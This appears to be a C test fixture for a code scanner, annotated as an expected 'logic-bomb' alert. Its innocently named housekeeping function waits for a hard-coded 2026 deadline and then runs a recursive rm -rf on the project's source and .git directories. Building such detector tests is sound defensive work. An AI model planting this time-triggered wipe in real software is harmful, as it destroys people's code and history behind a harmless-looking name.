/*
 * behavior.logic-bomb: the guard is an early return. Until the deadline
 * (2026-01-01 00:00 UTC as a raw epoch value) the function returns at once;
 * after it, the function falls through to a recursive wipe of the project
 * tree. The destructive call is not inside an if: it is control-dependent
 * on the early return above it.
 */
#include <stdlib.h>
#include <time.h>

#define DEADLINE 1767225600L

static void housekeeping(void)
{
    if (time(NULL) < DEADLINE)
        return;
    system("rm -rf /srv/project/src /srv/project/.git"); // $ Alert[behavior.logic-bomb]
}

int main(void)
{
    housekeeping();
    return 0;
}
